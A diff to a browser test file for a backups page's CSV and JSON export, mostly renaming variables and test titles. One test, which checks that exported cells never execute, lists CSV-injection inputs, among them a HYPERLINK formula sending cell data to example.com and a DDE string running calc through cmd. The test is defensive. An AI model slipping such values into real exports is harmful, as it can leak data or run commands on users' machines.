@@ -74,10 +74,10 @@ test.beforeEach(async ({ demo }) => {
 /** Technical details of a backup, by a file's names. Times are normalised. */
 function fields(row, names = OWN) {
   const value = (name) => {
-    const given = (name === 'volume_name' ? (row[name] ?? named.get(row.volume_id)) : row[KEYS[name] ?? name]) ?? null;
+    const raw = (name === 'volume_name' ? (row[name] ?? named.get(row.volume_id)) : row[KEYS[name] ?? name]) ?? null;
     // Empty metadata counts as no metadata.
-    if (name === 'metadata') return given && Object.keys(given).length > 0 ? given : null;
-    return TIMES.includes(name) ? (moment(given) ?? null) : given;
+    if (name === 'metadata') return raw && Object.keys(raw).length > 0 ? raw : null;
+    return TIMES.includes(name) ? (moment(raw) ?? null) : raw;
   };
   return Object.fromEntries(names.map((name) => [name, value(name)]));
 }
@@ -115,12 +115,12 @@ function expectJson({ text }, backups, { extent, filters, project = PROJECT }) {
 
 const NAME = (rows, ending) => new RegExp(`^backups_\\d{8}T\\d{6}Z_${rows}-rows?\\.${ending}$`);
 
-test('a page is saved as CSV and as JSON, as the service gave it', async ({ page, demo, asked }) => {
+test('a page is saved as CSV and as JSON, as the service gave it', async ({ page, demo, requests }) => {
   const now = await stopClock(page);
   await open(page, '?status=error&sort=size:asc&limit=20&page=2');
   const { backups } = await demo.list('status=error&sort=size:asc&limit=20&offset=20');
   expect(backups).toHaveLength(20);
-  asked.clear();
+  requests.clear();
   const about = { extent: 'page 2', filters: 'status:error' };
   const csv = await save(page, 'This page as CSV');
   expect(csv.name).toMatch(NAME(20, 'csv'));
@@ -131,10 +131,10 @@ test('a page is saved as CSV and as JSON, as the service gave it', async ({ page
   const json = await save(page, 'This page as JSON');
   expect(json.name).toMatch(NAME(20, 'json'));
   expect(moment(expectJson(json, backups, about))).toBe(now);
-  expect(asked.lists()).toEqual([]);
+  expect(requests.lists()).toEqual([]);
 });
 
-test('a file that the browser does not save is told of where it is seen, until one is saved', async ({ page }) => {
+test('a file that the browser does not save is reported, until one is saved', async ({ page }) => {
   await page.addInitScript(() => {
     const make = URL.createObjectURL;
     URL.createObjectURL = (blob) => {
@@ -152,19 +152,19 @@ test('a file that the browser does not save is told of where it is seen, until o
   await expect(notices(page)).toHaveCount(0);
 });
 
-test('all that match are saved, whichever page is in sight, in its order', async ({ page, demo, asked }) => {
+test('all matches are saved, whichever page is shown, in its order', async ({ page, demo, requests }) => {
   await open(page, '?status=available&sort=name:desc&limit=10&page=3');
   const sorted = await demo.all('status=available&sort=name:desc');
   const csv = await save(page, 'All that match as CSV');
   expect(csv.name).toMatch(NAME(sorted.length, 'csv'));
   await expect(extent(page)).toHaveCount(0);
   expectCsv(csv, sorted, { extent: 'complete', filters: 'status:available' });
-  const before = asked.lists().length;
+  const before = requests.lists().length;
   expectJson(await save(page, 'All that match as JSON'), sorted, { extent: 'complete', filters: 'status:available' });
-  expect(asked.lists().length).toBe(before);
+  expect(requests.lists().length).toBe(before);
 });
 
-test('what a search over the whole project found is saved as it stands', async ({ page, demo }) => {
+test('the result of a search over the whole project is saved as shown', async ({ page, demo }) => {
   await openWhole(page, '?q=is%3Afailed%20-name%3Atest&sort=size:desc');
   const shown = await ids(page);
   const all = new Map((await demo.all()).map((row) => [row.id, row]));
@@ -185,7 +185,7 @@ test('the file of a page and the file of all say the same of a backup', async ({
   expect(all.slice(0, 10)).toEqual(some);
 });
 
-test('no cell of a spreadsheet is run, and no text is lost', async ({ page, demo, add }) => {
+test('no cell of a spreadsheet is executed, and no text is lost', async ({ page, demo, add }) => {
   const hostile = [
     '=HYPERLINK("http://example.com/?"&A1,"x")', '+1', '-1+1', '@SUM(A1)', '\t=1', '\r=1', ' \u00a0=1', '＝1', '＋1', '－1', '＠1', 'a;=1;b',
     'a\n=1', 'a\r\n+1', 'a;"=1"', '"', '""', ',', 'plain', ' blanks ', 'ünï 💾', "nightly;=cmd|' /C calc'!A0", "'=1", '-5', '+49 170 1234',
@@ -224,13 +224,13 @@ test('semicolons are chosen once, for this browser, and both kinds of file say t
 test.describe('of less than the whole', () => {
   test.use({ allowed: REFUSED });
 
-  test('rows that cannot be read are in the files as they came', async ({ page, demo }) => {
+  test('unreadable rows are in the files as raw data', async ({ page, demo }) => {
     await page.goto('./fault/oddrow/?view=backups');
     await settled(page);
     await expect(links(page).first()).toBeVisible();
     const { backups } = await demo.list();
-    const { backups: read, extent: told, count } = JSON.parse((await save(page, 'This page as JSON')).text);
-    expect([told, count, read.length]).toEqual(['page 1, 2 unreadable rows', 51, 51]);
+    const { backups: read, extent: fileExtent, count } = JSON.parse((await save(page, 'This page as JSON')).text);
+    expect([fileExtent, count, read.length]).toEqual(['page 1, 2 unreadable rows', 51, 51]);
     expect([read[1].id, read[1].status, read[1].links.length, read[3]]).toEqual([backups[1].id, 7, 2, 7]);
     const records = tableOf(await save(page, 'This page as CSV'));
     expect(records.filter(({ unreadable }) => unreadable !== null)).toHaveLength(2);
